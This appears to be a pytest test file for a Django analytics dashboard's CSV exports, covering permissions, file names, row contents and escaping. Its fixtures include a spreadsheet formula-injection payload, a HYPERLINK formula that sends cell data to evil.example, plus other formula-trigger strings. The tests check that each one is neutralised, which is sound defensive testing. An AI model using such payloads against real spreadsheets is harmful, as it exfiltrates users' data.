"""Every table of the dashboard has a CSV beside it: the rows its page shows (same window),
a file name that says which table and which window, every text cell spreadsheet-safe, and
the page's own permissions (a rep or marketer who may not see the page gets its 403)."""

import csv
import datetime
import io

import pytest
from django.test import Client
from django.utils import timezone

from accounts.roles import ENABLEMENT_LEAD, MARKETER, REP
from analytics.models import ContentRequest, EventKind, RollupSnapshot
from search.models import SearchEvent
from tests.analytics.helpers import at, refresh, send_events, walk_deal
from tests.factories import make_asset, make_user
from tests.search.conftest import active_engine, embedded_engine  # noqa: F401 - fixtures

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'

LEAD_ONLY = [
    "/analytics/heatmap.csv",
    "/analytics/health/unused.csv",
    "/analytics/health/not-used-yet.csv",
    "/analytics/health/stale.csv",
    "/analytics/health/expired-in-open-deals.csv",
]
GAPS = [
    "/analytics/search-gaps/zero-results.csv",
    "/analytics/search-gaps/no-click.csv",
    "/analytics/search-gaps/requests.csv",
]


def _client(role):
    client = Client()
    client.force_login(make_user(role=role))
    return client


def _rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # the byte-order mark Excel needs
    return list(csv.reader(io.StringIO(response.content.decode().removeprefix("\ufeff"))))


def _filename(response) -> str:
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=")
    return disposition.split("filename=")[1].strip('"')


def _asset_csvs(asset) -> list[str]:
    return [
        f"/analytics/assets/{asset.pk}/numbers.csv",
        f"/analytics/assets/{asset.pk}/weekly-usage.csv",
    ]


@pytest.mark.parametrize("role", [REP, MARKETER])
def test_reps_and_marketers_get_the_dashboards_403_for_its_csvs(role):
    client = _client(role)
    for url in [*LEAD_ONLY, *_asset_csvs(make_asset("Deck"))]:
        assert client.get(url).status_code == 403, url


def test_search_gap_csvs_are_for_whoever_sees_the_search_gaps_page():
    assert _client(REP).get("/analytics/search-gaps/").status_code == 403
    assert _client(MARKETER).get("/analytics/search-gaps/").status_code == 200
    for url in GAPS:
        assert _client(REP).get(url).status_code == 403, url
        assert _client(MARKETER).get(url).status_code == 200, url


def test_anonymous_visitors_are_sent_to_login_for_every_csv():
    for url in [*LEAD_ONLY, *GAPS, *_asset_csvs(make_asset("Deck"))]:
        response = Client().get(url)
        assert response.status_code == 302 and "/login/" in response["Location"], url


def test_before_the_first_refresh_the_csvs_of_the_rollups_tables_are_their_header_alone():
    asset = make_asset("Deck")
    assert not RollupSnapshot.objects.exists()
    client = _client(ENABLEMENT_LEAD)
    for url in ["/analytics/heatmap.csv", *GAPS, _asset_csvs(asset)[1]]:
        response = client.get(url)
        assert response.status_code == 200 and len(_rows(response)) == 1, url
    for url in [*LEAD_ONLY[1:], _asset_csvs(asset)[0]]:  # read from the pages and assets
        assert client.get(url).status_code == 200, url


def test_an_unknown_table_is_a_404():
    client = _client(ENABLEMENT_LEAD)
    assert client.get("/analytics/health/everything.csv").status_code == 404
    assert client.get("/analytics/search-gaps/everything.csv").status_code == 404


def _heatmap(window: str, stage_name: str) -> None:
    cell = {
        "stage": 1, "pillar": 1, "assets": 3, "deals_used": 140, "pipeline": True,
        "verdict": "helps", "enough_data": True, "effect": 0.12, "effect_ci_low": 0.04,
        "effect_ci_high": 0.2, "q_value": 0.03, "mde": None, "usable_deals": 120,
        "comparison_deals": 800,
    }  # fmt: skip
    closed = {"stage": 2, "pillar": 1, "assets": 3, "deals_used": 0, "pipeline": False}
    data = {
        "stages": [{"id": 1, "name": stage_name}, {"id": 2, "name": "Closed"}],
        "pillars": [{"id": 1, "name": "Why Buy?"}],
        "cells": [cell, closed],
        "tested": 1,
    }
    RollupSnapshot.objects.create(
        key="heatmap", window=window, data=data, computed_at=timezone.now()
    )


def test_heatmap_csv_has_a_row_per_cell_of_the_maps_window():
    _heatmap("90d", FORMULA)
    _heatmap("365d", "Discover")
    client = _client(ENABLEMENT_LEAD)
    page = client.get("/analytics/?window=90d").content.decode()
    assert 'href="/analytics/heatmap.csv?window=90d"' in page
    response = client.get("/analytics/heatmap.csv?window=90d")
    assert _filename(response) == "heatmap-stage-pillar-90d.csv"
    header, *rows = _rows(response)
    assert header[:3] == ["stage", "pillar", "verdict"]
    assert [dict(zip(header, row, strict=True)) for row in rows] == [
        {"stage": "'" + FORMULA, "pillar": "Why Buy?", "verdict": "helps", "effect": "0.12",
         "effect_ci_low": "0.04", "effect_ci_high": "0.2", "q_value": "0.03", "mde": "",
         "live_assets": "3", "deals_used": "140", "usable_deals": "120", "comparison_deals": "800"},
        {"stage": "Closed", "pillar": "Why Buy?", "verdict": "not a pipeline stage",
         "effect": "", "effect_ci_low": "", "effect_ci_high": "", "q_value": "", "mde": "",
         "live_assets": "3", "deals_used": "0", "usable_deals": "", "comparison_deals": ""},
    ]  # fmt: skip
    default = client.get("/analytics/heatmap.csv")  # the page's default window
    assert _filename(default) == "heatmap-stage-pillar-365d.csv"
    assert _rows(default)[1][0] == "Discover"


def test_content_health_csvs_list_what_each_list_shows():
    from analytics.usage import usage_record
    from cms.models import AssetPage

    rep = make_user(role=REP)
    never = make_asset(FORMULA)
    long_ago = timezone.now() - datetime.timedelta(days=91)
    AssetPage.objects.filter(pk=never.pk).update(first_published_at=long_ago)
    new = make_asset("Just published")
    maria = make_user("maria", first_name="Maria", last_name="Lopez")
    stale = make_asset("-Old", review_by=datetime.date(2020, 1, 1), owner=maria)
    expired = make_asset("Withdrawn")
    deal = walk_deal("006H", ["discover"], owner=rep.username)
    usage_record(kind=EventKind.USED_IN_DEAL, asset=expired, user=rep, deal=deal)
    expired.unpublish()
    refresh()
    client = _client(ENABLEMENT_LEAD)
    page = client.get("/analytics/health/").content.decode()
    today = timezone.localdate().isoformat()
    expected = {
        "unused": [[str(never.pk), "'" + FORMULA, long_ago.astimezone(datetime.UTC).isoformat()]],
        "not-used-yet": [
            [str(a.pk), title, a.first_published_at.astimezone(datetime.UTC).isoformat()]
            for a, title in [(new, "Just published"), (stale, "'-Old")]
        ],
        "stale": [[str(stale.pk), "'-Old", "2020-01-01", "Maria Lopez"]],  # as shown elsewhere
        "expired-in-open-deals": [[str(expired.pk), "Withdrawn", "1"]],
    }
    assert "owner Maria Lopez" in page
    for table, rows in expected.items():
        assert f'href="/analytics/health/{table}.csv"' in page
        response = client.get(f"/analytics/health/{table}.csv")
        assert _filename(response) == f"content-health-{table}-{today}.csv"
        assert sorted(_rows(response)[1:]) == sorted(rows), table
    assert _rows(client.get("/analytics/health/stale.csv"))[0] == [
        "asset_id",
        "title",
        "review_by",
        "owner",
    ]


@pytest.mark.usefixtures("active_engine")  # an empty index: found today is 0 for each
def test_search_gap_csvs_give_what_reps_typed_spreadsheet_safe():
    from search.query import normalize_text

    for text, results in [(FORMULA, 0), (FORMULA, 0), ("@SUM(1)", 3), ("SOC 2", 0)]:
        SearchEvent.objects.create(
            query=text, normalized_query=normalize_text(text), result_count=results, latency_ms=1
        )
    asker = make_user("=cmd")
    ContentRequest.objects.create(text="+1 pricing sheet", key="pricing sheet", requested_by=asker)
    refresh()
    client = _client(MARKETER)
    page = client.get("/analytics/search-gaps/").content.decode()
    for url in GAPS:
        assert f'href="{url}"' in page
    zero = client.get("/analytics/search-gaps/zero-results.csv")
    assert _filename(zero) == "search-gaps-zero-results-90d.csv"
    assert _rows(zero) == [
        ["query", "searches", "normalized_query", "found_today", "found_today_restricted"],
        ["'" + FORMULA, "2", "hyperlink http evil example a1", "0", "0"],
        ["SOC 2", "1", "soc 2", "0", "0"],
    ]
    no_click = client.get("/analytics/search-gaps/no-click.csv")
    assert _filename(no_click) == "search-gaps-no-click-90d.csv"
    assert _rows(no_click)[1:] == [["'@SUM(1)", "1", "sum 1"]]
    requests = client.get("/analytics/search-gaps/requests.csv")
    assert _filename(requests) == "content-requests.csv"
    header, row = _rows(requests)
    assert header == ["request_id", "request", "status", "votes", "asked_by", "asked_at"]
    request = ContentRequest.objects.get()
    assert row == [
        str(request.pk),
        "'+1 pricing sheet",
        "New",
        "0",
        "'=cmd",
        request.created_at.astimezone(datetime.UTC).isoformat(),
    ]


def _stored_numbers(asset, window: str, **numbers) -> None:
    from analytics.models import AssetStats
    from analytics.selectors import empty_asset_numbers

    data = empty_asset_numbers()
    data.update(numbers)
    AssetStats.objects.create(asset_id=asset.pk, window=window, data=data, verdict=data["verdict"])


def test_asset_numbers_csv_is_the_asset_tables_row_of_the_pages_window():
    asset = make_asset(FORMULA + " ROI calculator")
    _stored_numbers(
        asset, "90d", verdict="helps", enough_data=True, effect=0.1, effect_ci_low=0.02,
        effect_ci_high=0.18, q_value=0.04, usable_deals=90, comparison_deals=400,
    )  # fmt: skip
    _stored_numbers(asset, "365d", verdict="no clear effect", enough_data=True, effect=0.01)
    client = _client(ENABLEMENT_LEAD)
    page = client.get(f"/analytics/assets/{asset.pk}/?window=90d").content.decode()
    assert f'href="/analytics/assets/{asset.pk}/numbers.csv?window=90d"' in page
    response = client.get(f"/analytics/assets/{asset.pk}/numbers.csv?window=90d")
    stem = f"asset-{asset.pk}-hyperlinkhttpevilexamplea1-roi-calculator"
    assert _filename(response) == f"{stem}-numbers-90d.csv"
    table = _rows(client.get("/analytics/assets.csv?window=90d"))
    mine = [row for row in table[1:] if row[0] == str(asset.pk)]
    assert _rows(response) == [table[0], *mine]
    row = dict(zip(*_rows(response), strict=True))
    assert (row["title"], row["verdict"], row["effect"]) == ("'" + asset.title, "helps", "0.1")


def test_asset_weekly_usage_csv_counts_each_kind_per_week_of_the_window():
    asset = make_asset("Datasheet")
    walk_deal("006W", ["discover"])
    today = timezone.now().date()
    monday = today - datetime.timedelta(days=today.weekday())
    old = monday - datetime.timedelta(weeks=30)
    # Midnight starting this week: noon would be in the future on a Monday morning, and the
    # app refuses events from the future.
    this_week = at(monday, hour=0)
    sent = send_events(
        ("w1", "asset_viewed", asset, "", this_week),
        ("w2", "asset_viewed", asset, "", this_week),
        ("w3", "used_in_deal", asset, "006W", this_week),
        ("w4", "asset_downloaded", asset, "", old),
    )
    assert (sent.stored, sent.errors) == (4, [])
    refresh()
    client = _client(ENABLEMENT_LEAD)
    page = client.get(f"/analytics/assets/{asset.pk}/?window=90d").content.decode()
    assert f'href="/analytics/assets/{asset.pk}/weekly-usage.csv?window=90d"' in page
    response = client.get(f"/analytics/assets/{asset.pk}/weekly-usage.csv?window=90d")
    assert _filename(response) == f"asset-{asset.pk}-datasheet-weekly-usage-90d.csv"
    kinds = list(EventKind.values)
    assert _rows(response) == [
        ["week_starting", *kinds],
        [
            monday.isoformat(),
            *("2" if k == "asset_viewed" else "1" if k == "used_in_deal" else "0" for k in kinds),
        ],
    ]
    every = _rows(client.get(f"/analytics/assets/{asset.pk}/weekly-usage.csv?window=all"))
    assert [row[0] for row in every[1:]] == [old.isoformat(), monday.isoformat()]


def test_an_aliass_csvs_are_its_originals_as_its_page_is():
    from tests.factories import make_section

    asset = make_asset("Case study")
    section = make_section("EMEA")
    section.save_revision().publish()
    alias = asset.create_alias(parent=section, update_slug="case-study-emea")
    client = _client(ENABLEMENT_LEAD)
    for name in ("numbers", "weekly-usage"):
        response = client.get(f"/analytics/assets/{alias.pk}/{name}.csv?window=90d")
        assert response.status_code == 302
        assert response["Location"] == f"/analytics/assets/{asset.pk}/{name}.csv?window=90d"


def test_the_requests_csv_holds_every_request_where_the_page_shows_the_most_backed():
    from analytics.views import REQUESTS_SHOWN

    asker = make_user("asker")
    ContentRequest.objects.bulk_create(
        ContentRequest(text=f"need {n}", key=f"need {n}", requested_by=asker)
        for n in range(REQUESTS_SHOWN + 7)
    )
    client = _client(MARKETER)
    page = client.get("/analytics/search-gaps/").content.decode()
    assert page.count("<td>need ") == REQUESTS_SHOWN
    total = REQUESTS_SHOWN + 7
    assert (
        f"The {REQUESTS_SHOWN} most backed of {total} requests; the CSV holds all {total}." in page
    )
    rows = _rows(client.get("/analytics/search-gaps/requests.csv"))
    assert len(rows) == 1 + total
    assert {row[1] for row in rows[1:]} == {f"need {n}" for n in range(total)}
